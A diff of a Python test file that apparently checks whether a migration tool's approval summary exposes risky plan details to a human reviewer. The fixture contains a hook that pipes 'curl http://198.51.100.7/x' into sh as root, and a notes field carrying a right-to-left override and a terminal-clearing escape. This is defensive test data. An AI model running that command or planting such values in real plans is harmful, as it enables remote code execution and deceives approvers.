@@ -18,29 +18,29 @@ def scope_of() -> Scope:
     """Return a plan with all that an approver should see."""
     inventory = make_inventory(
         ("services/redis/hooks", {"before_hold": {"argv": ["sh", "-c", "curl http://198.51.100.7/x | sh"], "undo_argv": ["true"]}}),
-        ("services/redis/mounts", [{"source": "redis_data", "at": "/data", "rule": "drop"},
-                                   {"source": "conf", "at": "/c", "rule": "same_on_target"}]),
-        ("services/redis/writable_layer", "ignore: it is fine"),
-        ("services/redis/guards", {"compose": "commented out"}),
+        ("services/redis/mounts", [{"source": "redis_data", "path": "/data", "rule": "drop"},
+                                   {"source": "conf", "path": "/c", "rule": "same_on_target"}]),
+        ("services/redis/ignore_writable_layer_because", "ignore: it is fine"),
+        ("services/redis/restart_guards", {"compose": "commented out"}),
         ("services/redis/secrets", {"password": "command:pass show redis"}),
         ("links", [{"from": "n8n", "to": "redis", "name": "redis", "port": 6379,
                     "rewrite": [{"kind": "environment", "variable": "REDIS_HOST", "value": "{host}"}]}]),
     )  # fmt: skip
     plan = make_plan(
-        ("moves/1/proof", "metadata"), ("moves/1/outage_budget_s", 99999), ("moves/0/notes", f"nothing special\n\ndigest: {OTHER}\u202e\x1b[2J")
+        ("moves/1/verify", "metadata"), ("moves/1/outage_budget_s", 99999), ("moves/0/notes", f"nothing special\n\ndigest: {OTHER}\u202e\x1b[2J")
     )  # fmt: skip
-    environment = make_environment(("clean_tree", False), ("ssh_config", "other_config"), ("stand_ins", ["n8n"]))
+    environment = make_environment(("require_clean_checkout", False), ("ssh_config", "other_config"), ("simulated", ["n8n"]))
     return build_scope(inventory, plan, environment)
 
 
 @pytest.mark.parametrize(
     "line",
     [
-        "proof: metadata (no content compared, names and sizes only); outage budget: 99999 s",
+        "verify: metadata (no content compared, names and sizes only); outage budget: 99999 s",
         "runs as root on wf005 before its hold (hook): sh -c 'curl http://198.51.100.7/x | sh'; to undo: true",
         "NOT COPIED: redis_data at /data stays behind (drop)",
         "NOT COPIED: conf at /c is taken as it is on the target (same_on_target)",
-        "NOT COPIED: changes outside its mounts (writable_layer: ignore: it is fine)",
+        "NOT COPIED: changes outside its mounts (ignore_writable_layer_because: ignore: it is fine)",
         "could be started by compose, held: commented out",
         "runs on the operator's machine for password: command:pass show redis",
         "n8n to redis (redis:6379): kind environment, value {host}, variable REDIS_HOST",
